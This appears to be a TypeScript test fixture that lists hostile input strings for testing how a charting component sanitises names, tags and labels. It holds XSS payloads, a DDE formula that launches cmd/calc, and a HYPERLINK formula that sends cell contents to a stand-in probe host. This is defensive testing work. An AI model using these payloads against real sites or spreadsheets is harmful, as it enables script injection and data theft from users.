// Strings an attacker sends as names, tag and property values, user ids and units. Shared by
// the option-builder unit test and e2e/hostile-data.spec.ts. Every payload that could run
// script sets `window.__xss`, opens a dialog, marks an element `data-xss-probe` or loads
// something from PROBE_HOST, so a browser test can see any of them take effect.

/** A host that never resolves (.invalid is reserved): any request to it came from a payload. */
export const PROBE_HOST = "xss-probe.invalid";

/** Each at most 100 characters, so they fit tag keys and values, user ids and labels. */
export const HOSTILE_STRINGS: Record<string, string> = {
  imgOnerror: `<img src=x onerror="window.__xss='img';alert(1)" data-xss-probe>`,
  imgRemote: `<img src="https://${PROBE_HOST}/img.png" data-xss-probe>`,
  scriptClose: `</script><script data-xss-probe>window.__xss='script'</script>`,
  attrBreakDouble: `"><svg data-xss-probe onload="window.__xss='svg';alert(2)">`,
  attrBreakSingle: `' onmouseover='window.__xss="attr"' data-xss-probe='`,
  anchorJsUrl: `<a href="javascript:window.__xss='a'" data-xss-probe>click</a>`,
  jsUrl: "javascript:alert(document.domain)//",
  iframe: `<iframe src="https://${PROBE_HOST}/frame" data-xss-probe></iframe>`,
  cssUrl: `red;background:url(https://${PROBE_HOST}/bg.png)`,
  styleImport: `<style data-xss-probe>@import "https://${PROBE_HOST}/s.css";</style>`,
  preEscaped: "&lt;b&gt;escaped&lt;/b&gt; &amp; &#60;i&#62;",
  templates: "{a}{b}{c}{d}{@value}{name} {bold|rich} ${x} %s",
  bidi: "\u202Egnp.exe\u202C \u2066iso\u2069 \u200Frtl-mark\u200E",
  zeroWidth: "pro\u200B\u2060\uFEFF\u00AD plan",
  controls: "line\nbreak\r\ttab\u0007bell\u0085next\u2028sep",
  emojiAndRtl: "👨‍👩‍👧 عربي עברית",
  formulaLink: `=HYPERLINK("https://${PROBE_HOST}/?"&A1,"open")`,
  formulaDde: "@SUM(1+1)*cmd|' /C calc'!A0",
  formulaMinus: "-1+1",
  formulaPlus: "+2+3",
};

/** A 32 KB value with markup at both ends: fits a property value, not a tag. */
export const LONG_HOSTILE = `<img src=x onerror="window.__xss='long'" data-xss-probe>${"W".repeat(32 * 1024 - 200)}<b data-xss-probe>end</b>`;

/** Every hostile string, the long one last. */
export const ALL_HOSTILE = [...Object.values(HOSTILE_STRINGS), LONG_HOSTILE];

/** Characters `plainText` removes or replaces: none of them may reach a chart. */
export const UNSAFE_DISPLAY_CHARS = /[\u0000-\u001F\u007F-\u009F\u061C\u200B\u200E\u200F\u202A-\u202E\u2060-\u2064\u2066-\u2069\uFEFF\u00AD\u180E\u2028\u2029]/;
